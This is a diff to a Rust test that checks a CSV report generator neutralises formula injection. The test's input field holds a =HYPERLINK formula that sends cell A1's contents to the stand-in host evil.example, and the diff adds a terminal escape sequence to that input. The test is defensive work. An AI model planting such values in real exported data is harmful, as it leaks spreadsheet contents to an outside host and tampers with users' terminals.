@@ -190,7 +190,7 @@ fn child_prints_much() {
 #[tokio::test]
 async fn no_cell_of_a_report_is_a_formula() {
     let hub = TestHub::start().await;
-    let city = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ufa\"); @SUM(A1);+1;\t=2";
+    let city = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ufa\"); @SUM(A1);+1;\t=2\u{1b}[2J";
     let show = serde_json::json!({ "id": "evil-1", "title": "Show", "city": city });
     let at = (hub.now() - std::time::Duration::from_secs(3600)).to_string();
     let order = serde_json::json!({ "type": "order", "data": {
@@ -207,6 +207,7 @@ async fn no_cell_of_a_report_is_a_formula() {
     hub.settled().await;
     let csv = stagedoor::report::report(&hub.hub).await.expect("a report").csv().expect("CSV");
     assert!(csv.contains("HYPERLINK"), "the city is in it: {csv}");
+    assert!(!csv.contains('\u{1b}'), "it moves no cursor of a terminal");
     for line in csv.lines().skip(1) {
         // Excel in Russian parts cells at semicolons.
         for cell in line.split([',', ';', '\t']) {
